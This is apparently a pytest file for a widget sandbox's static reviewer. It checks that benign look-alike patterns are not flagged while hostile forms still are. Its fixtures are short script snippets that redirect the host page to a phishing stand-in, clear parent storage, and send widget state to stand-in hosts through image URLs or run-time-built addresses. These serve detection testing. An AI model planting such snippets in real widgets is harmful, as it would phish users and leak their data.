"""The static layer on benign look-alikes of hostile patterns (fixtures/review/benign_*): what
a widget does routinely and must not be reported, next to the hostile form that still is."""

from __future__ import annotations

from flowui_sandbox.sandbox.review import review_static


def rules(source: str, fields: list[str] | None = None) -> dict[str, list]:
    out: dict[str, list] = {}
    for finding in review_static(source, file="b.html", fields=fields or []):
        out.setdefault(finding.rule, []).append(finding)
    return out


def test_a_parameter_named_parent_is_not_the_host_page():
    local = ("<div id=p></div><script>\n  function inline(parent, text) { parent.append(document.createTextNode(text)); }\n"
             "  const add = (parent) => parent.appendChild(document.createElement('hr'));\n"
             "  function f() { const top = document.getElementById('p'); top.append('x'); }\n"
             "  inline(document.getElementById('p'), 'a'); add(document.body); f();\n</script>")
    assert "blocked.top-navigation" not in rules(local)
    for hostile in ("<script>parent.document.body.append('x');</script>",
                    "<script>function f(x) { top.location = 'https://phish.example/'; } f(1);</script>",
                    "<script>function f(top) { parent.localStorage.clear(); } f(1);</script>",
                    "<script>{ const parent = 1; } parent.document.title = 'x';</script>",
                    # A local bound to the browser's own window objects is the host page again.
                    "<script>const parent = window.parent; parent.location = 'https://phish.example/';</script>",
                    "<script>const { top } = window; top.location.href = 'https://phish.example/';</script>",
                    "<script>function f() { let parent = self.parent; parent.document.title = 'x'; } f();</script>"):
        assert "blocked.top-navigation" in rules(hostile), hostile


def test_a_guarded_read_is_the_guarded_path():
    # `(state.help && state.help.faq) || []`: the left of && is returned only when falsy, so the
    # members read on the result are members of help.faq, not of help.
    source = ("<ul id=l></ul><script>\n  flowUi.onChange((state) => {\n"
              "    const items = (state.help && state.help.faq) || [];\n"
              "    items.forEach((item) => { const li = document.createElement('li'); li.textContent = item.question; "
              "document.getElementById('l').append(li); });\n  });\n</script>")
    found = rules(source, ["help.faq"])
    assert "projection.unprojected-read" not in found, found.get("projection.unprojected-read")
    # Still a state read, and still state when it reaches a URL.
    leak = ("<script>\n  const s = flowUi.state;\n"
            "  new Image().src = 'https://x.example/p?' + (s.help && s.help.faq);\n</script>")
    assert [f.paths for f in rules(leak, ["help.faq"])["exfil.state-to-url"]] == [["help", "help.faq"]]


def test_an_elements_text_is_no_way_to_another_host():
    source = ("<p id=n></p><b id=z></b><script>\n  let n = 0;\n"
              "  document.getElementById('n').textContent = String(flowUi.get('cart.count'));\n"
              "  setInterval(() => { n += 1; document.getElementById('z').textContent = `${n} s`; }, 1000);\n</script>")
    assert "exfil.possible-flow" not in rules(source, ["cart.count"])
    # Text that is CSS loading a URL built at run time stays a way out.
    css = ("<style id=s></style><script>\n  const h = ['cdn', 'example'].join('.');\n"
           "  const t = flowUi.get('cart.count');\n"
           "  document.getElementById('s').textContent = 'body{background:url(//' + h + '/a.png)}';\n</script>")
    assert "exfil.possible-flow" in rules(css, ["cart.count"])


def test_a_scheme_named_in_text_is_not_a_url():
    source = ("<input id=w><p id=e></p><script>\n  const w = document.getElementById('w');\n"
              "  w.addEventListener('input', () => {\n"
              "    const ok = !w.value || w.value.startsWith('https://') || w.value === 'http://';\n"
              "    document.getElementById('e').textContent = ok ? '' : 'Use an https:// address.';\n"
              "    flowUi.setValue('site.url', w.value);\n  });\n</script>")
    found = rules(source, ["site.url"])
    assert "url.blocked-scheme" not in found and "exfil.possible-flow" not in found, found
    # A scheme prefix that builds a URL with a host chosen at run time is still a way out.
    built = ("<script>\n  const host = ['a', 'b'].join('');\n  const v = flowUi.get('site.url');\n"
             "  const base = 'https://';\n  document.title = base + host;\n</script>")
    assert "exfil.possible-flow" in rules(built, ["site.url"])


def test_an_array_element_written_by_index_is_no_member_chosen_at_run_time():
    source = ("<ul id=l></ul><script>\n  let items = [];\n"
              "  flowUi.onChange((s) => { items = s.todo.items.map((t) => ({ ...t })); render(); });\n"
              "  function render() {\n    items.forEach((item, i) => {\n"
              "      const box = document.createElement('input'); box.type = 'checkbox';\n"
              "      box.addEventListener('change', () => { items[i] = { ...item, done: box.checked }; "
              "flowUi.setValue('todo.items', items); });\n"
              "      items[i + 1 - 1] = item;\n      document.getElementById('l').append(box);\n    });\n  }\n</script>")
    assert "exfil.possible-flow" not in rules(source, ["todo.items"])
    for key, rule in (("k", "exfil.state-to-url"), ("(i, k)", "exfil.state-to-url"), ("i", "exfil.possible-flow")):
        # A property name joined from strings is that name (img.src), also as a sequence's value; an
        # index the callback reassigns is not known.
        hostile = ("<img id=i><script>\n  const img = document.getElementById('i');\n"
                   "  const k = ['s', 'rc'].join('');\n  const v = flowUi.get('todo.items');\n"
                   f"  [1].forEach((x, i) => {{ i = k; img[{key}] = 'https://x.example/?' + v; }});\n</script>")
        assert rule in rules(hostile, ["todo.items"]), key


def test_open_url_of_a_const_string_is_that_url():
    source = ("<button id=b>Share</button><script>\n"
              "  const SHARE = 'https://social.example/share?url=https%3A%2F%2Fshop.example%2Fsale';\n"
              "  document.getElementById('b').onclick = () => flowUi.openUrl(SHARE);\n</script>")
    found = rules(source)
    assert "bridge.open-url-dynamic" not in found
    assert [f.hosts for f in found["bridge.open-url"]] == [["social.example"]]
    # Another binding of the name (a let, a parameter) leaves the target unknown.
    for other in ("let SHARE = 'https://a.example/'; SHARE = location.hash.slice(1);",
                  "const SHARE = 'https://a.example/'; function go(SHARE) { flowUi.openUrl(SHARE); } go(location.hash);"):
        found = rules(f"<script>{other} document.body.onclick = () => flowUi.openUrl(SHARE);</script>")
        assert "bridge.open-url-dynamic" in found, other
